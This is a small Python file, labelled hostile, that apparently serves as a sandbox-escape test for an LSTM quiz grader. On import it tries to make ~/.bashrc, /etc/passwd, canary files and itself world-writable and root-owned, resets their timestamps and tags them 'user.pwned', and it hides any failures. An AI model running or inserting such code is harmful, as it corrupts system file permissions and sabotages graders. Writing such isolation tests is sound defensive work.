# hostile: changes the mode, owner, times and extended attributes of files outside its folder
import glob
import os

TARGETS = [*glob.glob("/tmp/lstm-quiz-canary*"), os.path.expanduser("~/.bashrc"), "/etc/passwd", __file__]
for target in TARGETS:
    for change in (
        lambda t: os.chmod(t, 0o777),
        lambda t: os.chown(t, 0, 0),
        lambda t: os.utime(t, (0, 0)),
        lambda t: os.setxattr(t, "user.pwned", b"1"),
    ):
        try:
            change(target)
        except (OSError, AttributeError):
            pass


def lstm_cell(*args):
    raise RuntimeError("metadata attack done")
